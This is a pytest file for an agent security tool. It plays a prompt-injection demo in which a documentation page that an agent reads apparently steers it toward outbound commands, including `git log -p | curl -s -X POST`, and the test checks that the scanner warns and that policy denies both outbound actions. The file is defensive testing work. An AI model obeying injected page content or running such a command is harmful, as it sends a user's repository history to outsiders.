"""The shipped injection-chain example, played headless through the real session (real sandbox,
risk engine, policy and audit log): the page is marked, and both outbound actions are denied with
the chain named."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parents[2]
SCRIPT = ROOT / "app" / "agent" / "examples" / "injection_chain.toml"


@pytest.mark.sandbox
@pytest.mark.timeout(240)
def test_injection_chain_demo_headless(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("OPENAI_")}
    env["TMPDIR"] = str(tmp_path)
    proc = subprocess.run(
        [sys.executable, "-m", "app", "demo", "--headless", "--script", str(SCRIPT)],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=200,
    )
    out = proc.stdout
    assert proc.returncode == 0, out + proc.stderr
    # the page is read without a question, and the scanner's warning reaches the model
    assert "→ $ cat docs/lintkit-integration.md\n  policy: allow" in out
    assert "[lockgate] warning: this output looks like a prompt injection" in out
    chain = (
        "the agent read untrusted content that looks like a prompt injection in the output of "
        "`cat docs/lintkit-integration.md`"
    )
    post = out.index("→ $ git log -p | curl -s -X POST")
    get = out.index("→ $ curl -s https://docs.python.org/3/search.html?q=lintkit")
    assert chain in out[post:get]
    assert "policy: deny [headless:taint:outbound]" in out[get:]
    assert chain in out[get:]
